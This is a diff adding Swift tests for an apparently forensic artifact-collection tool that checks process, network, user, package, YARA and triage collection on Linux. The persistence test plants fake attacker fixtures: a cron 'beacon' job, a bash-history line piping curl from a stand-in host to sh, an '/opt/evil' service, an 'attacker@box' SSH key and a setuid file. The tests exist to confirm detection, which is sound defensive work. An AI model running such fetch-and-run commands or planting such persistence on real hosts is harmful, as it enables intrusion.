@@ -1,0 +1,144 @@
+import Foundation
+import QuarryDetect
+import QuarryHost
+import Testing
+import VQL
+@testable import Artifacts
+
+/// Collects each built-in artifact on this host (with all plugins registered, as `quarry` does)
+/// and checks real content. Where the host may lack the data (history files, keys), the test
+/// creates it and points the artifact's parameter at it.
+@Suite struct BuiltinArtifactTests {
+    static func host(_ text: String, setup: (Session) -> Void = { _ in }) throws -> (rows: [Value], log: [String]) {
+        let registry = CoreLibrary.registry()
+        registry.add(plugins: HostLibrary.plugins, functions: HostLibrary.functions)
+        registry.add(plugins: DetectLibrary.plugins, functions: DetectLibrary.functions)
+        ArtifactRepository.builtin().install(into: registry)
+        let logger = MemoryLogger()
+        let session = Session(registry: registry, logger: logger)
+        setup(session)
+        let results = try session.run(text)
+        return ((results.last ?? nil) ?? [], logger.messages)
+    }
+
+    static func scratch() throws -> String {
+        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("quarry-art-\(UUID().uuidString)").path
+        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
+        return dir
+    }
+
+    @Test func clientInfoUsersGroupsMountsPackages() throws {
+        let info = try Self.host("SELECT * FROM Artifact.Generic.Client.Info()").rows
+        #expect(info.first?.member("OS").stringValue == "linux")
+        #expect(info.first?.member("Hostname").stringValue == ProcessInfo.processInfo.hostName)
+        let users = try Self.host("SELECT * FROM Artifact.Linux.Sys.Users() WHERE User = 'root'").rows
+        #expect(users.first?.member("Uid").stringValue == "0")
+        let groups = try Self.host("SELECT * FROM Artifact.Linux.Sys.Groups() WHERE Group = 'root'").rows
+        #expect(groups.first?.member("GID").intValue == 0)
+        let mounts = try Self.host("SELECT * FROM Artifact.Linux.Mounts() WHERE Mountpoint = '/proc'").rows
+        #expect(!mounts.isEmpty)
+        let packages = try Self.host("SELECT * FROM Artifact.Linux.Debian.Packages() WHERE Package = 'dpkg'").rows
+        #expect(packages.first?.member("Status").stringValue == "install ok installed")
+    }
+
+    @Test func pslistAndNetstatSeeThisProcess() throws {
+        let pid = Int64(getpid())
+        let own = try Self.host("SELECT * FROM Artifact.Linux.Sys.Pslist() WHERE Pid = P") { $0.root.set("P", .int(pid)) }.rows
+        #expect(own.count == 1)
+        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
+        defer { close(fd) }
+        var address = sockaddr_in()
+        address.sin_family = sa_family_t(AF_INET)
+        address.sin_addr.s_addr = inet_addr("127.0.0.1")
+        address.sin_port = 0
+        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
+        _ = withUnsafePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, length) } }
+        listen(fd, 1)
+        _ = withUnsafeMutablePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &length) } }
+        let port = Int64(UInt16(bigEndian: address.sin_port))
+        let rows = try Self.host("SELECT * FROM Artifact.Linux.Network.Netstat(source='TCP') WHERE LocalPort = Port") { $0.root.set("Port", .int(port)) }.rows
+        #expect(rows.first?.member("Status").stringValue == "LISTEN")
+        #expect(rows.first?.member("Pid").intValue == pid)
+    }
+
+    @Test func modulesWhenTheKernelHasThem() throws {
+        let (rows, log) = try Self.host("SELECT * FROM Artifact.Linux.Proc.Modules()")
+        if FileManager.default.fileExists(atPath: "/proc/modules") {
+            #expect(!rows.isEmpty)
+        } else {
+            #expect(log.contains { $0.contains("/proc/modules") })
+        }
+    }
+
+    @Test func persistenceArtifactsReadWhatTheyAreGiven() throws {
+        let dir = try Self.scratch()
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        try "# comment\nSHELL=/bin/sh\n*/5 * * * * root /usr/local/bin/beacon --quiet\n".write(toFile: dir + "/crontab", atomically: true, encoding: .utf8)
+        try "ls -la\ncurl http://example.invalid/x | sh\n".write(toFile: dir + "/.bash_history", atomically: true, encoding: .utf8)
+        try "[Unit]\nDescription=Totally Legit\n[Service]\nExecStart=/opt/evil --daemon\n".write(toFile: dir + "/legit.service", atomically: true, encoding: .utf8)
+        try "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEC8nTV4y7Q7 attacker@box\n".write(toFile: dir + "/authorized_keys", atomically: true, encoding: .utf8)
+        _ = FileManager.default.createFile(atPath: dir + "/suid-tool", contents: Data("#!/bin/sh\n".utf8), attributes: [.posixPermissions: 0o4755])
+        let cron = try Self.host("SELECT * FROM Artifact.Linux.Sys.Crontab(cronTabGlob=D + '/crontab')") { $0.root.set("D", .string(dir)) }.rows
+        #expect(cron.contains { $0.member("Schedule").member("Minute").stringValue == "*/5" && $0.member("Schedule").member("Command").stringValue?.contains("beacon") == true })
+        let history = try Self.host("SELECT * FROM Artifact.Linux.Sys.BashHistory(historyGlob=D + '/.bash_history')") { $0.root.set("D", .string(dir)) }.rows
+        #expect(history.map { $0.member("Command").stringValue ?? "" } == ["ls -la", "curl http://example.invalid/x | sh"])
+        let services = try Self.host("SELECT * FROM Artifact.Linux.Sys.Services(unitGlob=D + '/*.service')") { $0.root.set("D", .string(dir)) }.rows
+        #expect(services.first?.member("Description").stringValue == "Totally Legit")
+        #expect(services.first?.member("ExecStart").stringValue == "/opt/evil --daemon")
+        let keys = try Self.host("SELECT * FROM Artifact.Linux.Ssh.AuthorizedKeys(keysGlob=D + '/authorized_keys')") { $0.root.set("D", .string(dir)) }.rows
+        #expect(keys.first?.member("Entry").member("Comment").stringValue == "attacker@box")
+        #expect(keys.first?.member("Entry").member("KeyType").stringValue == "ssh-ed25519")
+        let suid = try Self.host("SELECT * FROM Artifact.Linux.Sys.SUID(searchGlob=D + '/**')") { $0.root.set("D", .string(dir)) }.rows
+        #expect(suid.map { $0.member("Path").stringValue ?? "" } == [dir + "/suid-tool"])
+    }
+
+    @Test func fileFinderWithYaraHashAndUpload() throws {
+        let dir = try Self.scratch()
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        try "nothing here\n".write(toFile: dir + "/a.txt", atomically: true, encoding: .utf8)
+        try "has the MAGIC-WORD inside\n".write(toFile: dir + "/b.txt", atomically: true, encoding: .utf8)
+        let uploads = dir + "/uploads"
+        let (rows, log) = try Self.host("""
+            SELECT * FROM Artifact.Linux.Search.FileFinder(SearchFilesGlob=D + '/*.txt', YaraRule='rule M { strings: $a = "MAGIC-WORD" condition: $a }',
+                                                          Calculate_Hash='Y', Upload_File='Y')
+            """) {
+            $0.root.set("D", .string(dir))
+            $0.context.setService(UploadService.key, DirectoryUploads(root: uploads) as any UploadDestination)
+        }
+        #expect(rows.count == 1, "\(log)")
+        #expect(rows.first?.member("Path").stringValue == dir + "/b.txt")
+        #expect(rows.first?.member("Hash").member("SHA256").stringValue?.count == 64)
+        #expect(rows.first?.member("Upload").member("Size").intValue == 26)
+    }
+
+    @Test func yaraProcessFindsAMarkedChild() throws {
+        let child = Process()
+        child.executableURL = URL(fileURLWithPath: "/usr/bin/env")
+        child.arguments = ["python3", "-c", "import time; m = 'QUARRY-ART-' + 'MARK-' + str(777); time.sleep(30)"]
+        try child.run()
+        defer { child.terminate() }
+        Thread.sleep(forTimeInterval: 0.5)
+        let (rows, log) = try Self.host("SELECT * FROM Artifact.Linux.Detection.Yara.Process(processRegex='^python', yaraRule='QUARRY-ART-MARK-777')")
+        #expect(rows.contains { $0.member("Pid").intValue == Int64(child.processIdentifier) }, "\(log)")
+    }
+
+    @Test func triageCollectsEverySourceIntoOneContainer() throws {
+        let dir = try Self.scratch()
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        let registry = CoreLibrary.registry()
+        registry.add(plugins: HostLibrary.plugins, functions: HostLibrary.functions)
+        registry.add(plugins: DetectLibrary.plugins, functions: DetectLibrary.functions)
+        let repository = ArtifactRepository.builtin()
+        repository.install(into: registry)
+        let collector = try Collector(repository: repository, registry: registry, output: dir + "/triage.zip", options: CollectionOptions(), cancellation: CancellationFlag())
+        let summary = try collector.collect(["Linux.Triage.Basic"])
+        #expect(summary.state == "finished", "\(summary.errors)")
+        let counts = Dictionary(summary.rows.map { ($0.source, $0.count) }, uniquingKeysWith: { a, _ in a })
+        #expect((counts["Linux.Triage.Basic/Users"] ?? 0) > 0)
+        #expect((counts["Linux.Triage.Basic/Pslist"] ?? 0) > 0)
+        #expect(counts["Linux.Triage.Basic/Info"] == 1)
+        let zip = try ZipReader(path: dir + "/triage.zip")
+        #expect(zip.members.contains { $0.name == "results/Linux.Triage.Basic%2FPackages.json" })
+        #expect(zip.members.contains { $0.name == "client_info.json" })
+    }
+}
